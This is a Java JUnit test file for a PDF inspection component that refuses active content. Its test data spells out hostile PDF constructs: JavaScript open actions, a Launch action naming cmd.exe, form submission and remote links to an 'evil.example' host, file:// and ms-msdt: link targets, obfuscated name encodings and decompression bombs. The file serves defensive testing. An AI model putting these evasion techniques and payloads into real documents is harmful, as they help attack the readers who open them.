package vn.lienket.content;

import static org.assertj.core.api.Assertions.assertThatCode;
import static vn.lienket.content.HostileFiles.deflated;
import static vn.lienket.content.HostileFiles.objectStream;
import static vn.lienket.content.HostileFiles.pdf;
import static vn.lienket.content.HostileFiles.stream;
import static vn.lienket.content.Inspections.assertRefused;
import static vn.lienket.content.Inspections.document;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts.FontName;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import vn.lienket.document.SampleFiles;
import vn.lienket.document.TestTemplates;

class PdfInspectionTest {

    private static final String SCRIPT = "mã JavaScript";
    private static final String ATTACHED = "tệp đính kèm";
    private static final String CATALOGUE = "<</Type/Catalog/Pages 2 0 R>>";
    private static final String ACTION = "<</S/JavaScript/JS(app.alert\\(1\\))>>";

    @ParameterizedTest
    @MethodSource
    void whatRunsFetchesOrCarriesIsRefusedAndNamed(byte[] file, String named) {
        assertRefused(() -> document(file), named);
    }

    static Stream<Arguments> whatRunsFetchesOrCarriesIsRefusedAndNamed() throws IOException {
        return Stream.of(
                Arguments.of(pdf("<</Type/Catalog/OpenAction" + ACTION + ">>"), SCRIPT),
                Arguments.of(pdf(CATALOGUE, "<</Type/Page/AA<</O" + ACTION + ">>>>"), SCRIPT),
                Arguments.of(pdf(CATALOGUE, "<</Type/Annot/A" + ACTION + ">>"), SCRIPT),
                Arguments.of(pdf(CATALOGUE, "<</FT/Tx/AA<</K" + ACTION + ">>>>"), SCRIPT),
                Arguments.of(pdf("<</Names<</JavaScript<</Names[(a) 3 0 R]>>>>>>"), SCRIPT),
                // spelled otherwise, cut in two, in an array, with comments between
                Arguments.of(pdf("<</OpenAction<</S/J#61va#53cript/J#53 5 0 R>>>>"), SCRIPT),
                Arguments.of(pdf("<</OpenAction<</S 2 0 R>>>>", "/JavaScript"), SCRIPT),
                Arguments.of(pdf(CATALOGUE, "[ 1 [ (a)" + ACTION + "]]"), SCRIPT),
                Arguments.of(pdf(CATALOGUE, "%)\n<<%>>\n/S%\n/JavaScript>>"), SCRIPT),
                // between strings that look like the end of it
                Arguments.of(pdf(CATALOGUE, "<</A(>>\\)(\\\\))/B<3E3E>/S/JavaScript>>"), SCRIPT),
                Arguments.of(pdf(CATALOGUE, objectStream(ACTION)), SCRIPT),
                Arguments.of(pdf(CATALOGUE, twiceSpelled(ACTION)), SCRIPT),
                // hidden in what seems to be the data of a stream
                Arguments.of(pdf(CATALOGUE, stream("", ("\n9 0 obj\n" + ACTION + "\nendobj\n").getBytes())), SCRIPT),
                Arguments.of(saved(PdfInspectionTest::withScript), SCRIPT),
                Arguments.of(laterRevision(), SCRIPT),
                Arguments.of(saved(PdfInspectionTest::withAttachment), ATTACHED),
                Arguments.of(pdf(CATALOGUE, "<</Subtype/FileAttachment/FS 3 0 R>>"), ATTACHED),
                Arguments.of(pdf(CATALOGUE, "<</F(a)/EF<</F 3 0 R>>>>"), ATTACHED),
                Arguments.of(pdf("<</OpenAction<</S/Launch/F(cmd.exe)>>>>"), "Launch"),
                Arguments.of(pdf("<</AcroForm<</XFA 4 0 R>>>>"), "XFA"),
                Arguments.of(pdf("<</OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\a)>>>>"), "GoToR"),
                Arguments.of(pdf("<</OpenAction<</S/GoToE>>>>"), "GoToE"),
                Arguments.of(pdf("<</OpenAction<</S/SubmitForm/F(http://evil.example)>>>>"), "biểu mẫu"),
                Arguments.of(pdf("<</OpenAction<</S/ImportData/F(a)>>>>"), "biểu mẫu"),
                Arguments.of(pdf(CATALOGUE, "<</Subtype/RichMedia>>"), "đa phương tiện"),
                Arguments.of(pdf(CATALOGUE, "<</S/Rendition>>"), "đa phương tiện"),
                Arguments.of(pdf(CATALOGUE, "<</S 3 0 R>>", "/Movie"), "đa phương tiện"),
                Arguments.of(encrypted(), "mã hóa"));
    }

    /** However it is spelled, and wherever it stands. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "/GoToR",
                "/GoToE",
                "/Launch",
                "/SubmitForm",
                "/ImportData",
                "/Rendition",
                "/Movie",
                "/Sound",
                "/Thread",
                "/JavaScript"
            })
    void anActionThatDoesMoreThanShowAPageIsRefused(String action) {
        String escaped = "/#%02x%s".formatted((int) action.charAt(1), action.substring(2));
        for (String name : List.of(action, escaped)) {
            String dictionary = "<</#53%s/F(a)>>".formatted(name);
            assertRefused(() -> document(pdf(CATALOGUE, dictionary)), "nội dung chủ động");
            assertRefused(() -> document(pdf(CATALOGUE, objectStream(dictionary))), "nội dung chủ động");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<</Length 0/F(http://evil.example/a)>>\nstream\n\nendstream",
                "<</Length 0/#46<</Type/Filespec/F(\\\\\\\\evil\\\\a)>>>>\nstream\n\nendstream",
                "<</Type/XObject/Subtype/Form/Ref<</F(other.pdf)/Page 0>>/Length 0>>\nstream\n\nendstream",
                "<</Subtype/Form/R#65f 5 0 R/Length 0>>\nstream\n\nendstream",
                "<</Type/Filespec/FS/URL/F(http://evil.example/a)>>"
            })
    void dataFromAnotherFileAreRefused(String object) {
        assertRefused(() -> document(pdf(CATALOGUE, object)), "dữ liệu lấy từ tệp khác");
    }

    @ParameterizedTest
    @MethodSource
    void aWebPageThatOpensOfItselfIsRefused(byte[] file) {
        assertRefused(() -> document(file), "lệnh tự mở trang web");
    }

    static Stream<byte[]> aWebPageThatOpensOfItselfIsRefused() {
        String page = "<</S/URI/URI(https://example.vn/)>>";
        String goes = "<</S/GoTo/D[3 0 R/Fit]/Next ";
        return Stream.of(
                pdf("<</Type/Catalog/OpenAction" + page + ">>"),
                pdf("<</Type/Catalog/Open#41ction 2 0 R>>", page),
                pdf(CATALOGUE, "<</Type/Page/AA<</O" + page + ">>>>"),
                pdf(CATALOGUE, "<</Type/Page/AA<</O 3 0 R>>>>", page),
                pdf(CATALOGUE, "<</Type/Page/AA 3 0 R>>", "<</O 4 0 R>>", page),
                pdf(CATALOGUE, "<</Annots[<</Subtype/Link/AA<</E" + page + ">>>>]>>"),
                pdf("<</OpenAction" + goes + page + ">>>>"),
                pdf("<</OpenAction 2 0 R>>", goes + "[3 0 R 4 0 R]>>", "<</S/Named>>", page),
                pdf("<</OpenAction 2 0 R>>", goes + "3 0 R>>", "[4 0 R]", page),
                pdf("<</OpenAction 2 0 R>>", "<</S 3 0 R/URI(https://example.vn/)>>", "/URI"),
                pdf("<</OpenAction 7 0 R>>", objectStream(page)),
                // where the number in front of the object is not one that can be told
                new String(pdf("<</OpenAction 2 0 R>>", page), StandardCharsets.ISO_8859_1)
                        .replace("2 0 obj", "2 0%\nobj")
                        .getBytes(StandardCharsets.ISO_8859_1));
    }

    @Test
    void aChainOfActionsWithoutEndIsRefused() {
        String[] chain = new String[10];
        for (int index = 0; index < chain.length; index++) {
            chain[index] = "<</S/Named/OpenAction 2 0 R/Next %d 0 R>>".formatted(index + 2);
        }
        assertRefused(() -> document(pdf(chain)), "chuỗi lệnh tự chạy quá dài");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "(file:///c:/windows/system32/calc.exe)",
                "(javascript:alert\\(1\\))",
                "( java\\nscript:alert)",
                "(\\152avascript:alert)",
                "<6a6176617363726970743a61>",
                "<feff0066006900 6c0065003a002f>",
                "<efbbbf66696c653a>",
                "(\\\\\\\\evil\\\\share)",
                "(//evil/share)",
                "(ms-msdt:/id)",
                "(data:text/html,a)",
                "(c:/a.exe)",
                "3 0 R",
                "<</Base(file:///c:/)>>"
            })
    void aLinkToAnythingButAWebPageOrAMailIsRefused(String target) {
        String link = "<</Subtype/Link/A<</S/URI/U#52I " + target + ">>>>";
        assertRefused(
                () -> document(pdf(CATALOGUE, link, "(file:///a)")), "liên kết không phải http, https hay mailto");
        assertRefused(
                () -> document(pdf(CATALOGUE, objectStream(link), "(file:///a)")),
                "liên kết không phải http, https hay mailto");
    }

    /** Readers go on where it only seems to be over. */
    @ParameterizedTest
    @ValueSource(strings = {"<</A endobj ", "<</A stream ", "<</A ] ", "<</A > ", "[ >> ", "<</A[ >> "})
    void anObjectThatIsCutInTheMiddleIsRefused(String start) {
        assertRefused(() -> document(pdf(CATALOGUE, start + ACTION)), "tệp đã hỏng");
    }

    @ParameterizedTest
    @ValueSource(ints = {30, 60, 90})
    void whatLostItsEndIsRefused(int percent) throws IOException {
        byte[] whole = saved(document -> {});
        assertRefused(() -> document(Arrays.copyOf(whole, whole.length * percent / 100)), "cắt mất phần cuối");
    }

    @ParameterizedTest
    @MethodSource
    void whatIsHarmlessPasses(byte[] file) {
        assertThatCode(() -> document(file)).doesNotThrowAnyException();
    }

    static Stream<byte[]> whatIsHarmlessPasses() throws IOException {
        byte[] plain = saved(document -> {});
        return Stream.of(
                plain,
                SampleFiles.pdf("a"),
                SampleFiles.pdf(3 << 20),
                SampleFiles.continued(plain, "\n%% ký\n%%EOF\n".getBytes(StandardCharsets.UTF_8)),
                revised(plain, document -> document.getDocumentInformation().setTitle("Đã ký")),
                saved(PdfInspectionTest::withLink),
                pdf("<</Type/Catalog/OpenAction[3 0 R/Fit]/A(/JavaScript)>>", "<</Note</4A53>>>"),
                withEveryHarmlessLink(),
                TestTemplates.pdf().render("document/picture", Map.of("address", "")));
    }

    @Test
    void whatUnpacksToTooMuchIsRefusedWhileItUnpacks() {
        byte[] bomb = deflated(new byte[70 << 20]);
        assertRefused(() -> document(pdf(CATALOGUE, stream("/Filter/FlateDecode", bomb))), "vượt giới hạn 64 MB");
        assertRefused(
                () -> document(pdf(CATALOGUE, stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", bomb))),
                "vượt giới hạn 64 MB");
        assertRefused(
                () -> document(pdf(CATALOGUE, stream("/Filter[/FlateDecode/FlateDecode]", deflated(bomb)))),
                "vượt giới hạn 64 MB");
        String stream = stream("/Filter/FlateDecode", deflated(new byte[60 << 20]));
        assertRefused(
                () -> document(pdf(stream, stream, stream, stream, stream, stream, stream, stream, stream)),
                "vượt giới hạn 512 MB");
    }

    @Test
    void whatIsBuiltToBeReadForeverIsRefused() {
        assertRefused(() -> document(pdf(CATALOGUE, "[".repeat(300))), "tệp đã hỏng");
        assertRefused(() -> document(("%PDF-1.7\n" + "1 0 obj<</A(".repeat(20_000)).getBytes()), "tệp đã hỏng");
        assertRefused(() -> document(("%PDF-1.7\n" + "1 0 obj[]".repeat(300_001)).getBytes()), "đối tượng");
    }

    private static byte[] saved(Change change) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (PDDocument document = new PDDocument()) {
            PDPage page = new PDPage();
            document.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                content.beginText();
                content.setFont(new PDType1Font(FontName.HELVETICA), 12);
                content.showText("JavaScript /JS");
                content.endText();
            }
            change.make(document);
            document.save(out);
        }
        return out.toByteArray();
    }

    private static byte[] laterRevision() throws IOException {
        return revised(saved(document -> {}), document -> {
            withScript(document);
            document.getDocumentCatalog().getCOSObject().setNeedToBeUpdated(true);
        });
    }

    private static byte[] revised(byte[] first, Change change) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (PDDocument document = Loader.loadPDF(first)) {
            change.make(document);
            document.saveIncremental(out);
        }
        return out.toByteArray();
    }

    private static byte[] encrypted() throws IOException {
        return saved(document -> document.protect(new StandardProtectionPolicy("chủ", "", new AccessPermission())));
    }

    private static void withScript(PDDocument document) {
        document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"));
    }

    private static void withLink(PDDocument document) throws IOException {
        PDActionURI action = new PDActionURI();
        action.setURI("https://binhduong.gov.vn/");
        PDAnnotationLink link = new PDAnnotationLink();
        link.setAction(action);
        document.getPage(0).getAnnotations().add(link);
    }

    /** With what a reader does at once: it goes to a page, on which there are links. */
    private static byte[] withEveryHarmlessLink() {
        String link = "<</Type/Annot/Subtype/Link/F 4/A<</S/URI/URI(%s)>>>>";
        return pdf(
                "<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R/URI<</Base(https://example.vn/)>>>>",
                "<</Type/Pages/Kids[4 0 R]/Count 1>>",
                "<</S/GoTo/D[4 0 R/XYZ null null 0]/Next<</S/Named/N/FirstPage>>>>",
                "<</Type/Page/Annots[5 0 R 6 0 R 7 0 R 8 0 R 9 0 R]/AA<</O 3 0 R>>>>",
                "<</Subtype/Link/A 10 0 R>>",
                link.formatted("mailto:a@example.vn"),
                link.formatted("www.example.vn:8080/a"),
                link.formatted("HTTP://example.vn/a\\(b\\)"),
                link.formatted("tel:+84274"),
                "<</S/URI/URI 11 0 R>>",
                "(https://example.vn/)");
    }

    private static void withAttachment(PDDocument document) throws IOException {
        PDComplexFileSpecification file = new PDComplexFileSpecification();
        file.setFile("a.exe");
        file.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(new byte[10])));
        PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
        tree.setNames(Map.of("a", file));
        PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
        names.setEmbeddedFiles(tree);
        document.getDocumentCatalog().setNames(names);
    }

    /** An object stream in hexadecimal digits, which readers spell before they unpack it. */
    private static String twiceSpelled(String object) {
        byte[] packed = deflated(("7 0 " + object).getBytes(StandardCharsets.US_ASCII));
        StringBuilder digits = new StringBuilder();
        for (byte each : packed) {
            digits.append("%02x".formatted(each));
        }
        return stream(
                "/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]",
                digits.append('>').toString().getBytes(StandardCharsets.US_ASCII));
    }

    private interface Change {

        void make(PDDocument document) throws IOException;
    }
}
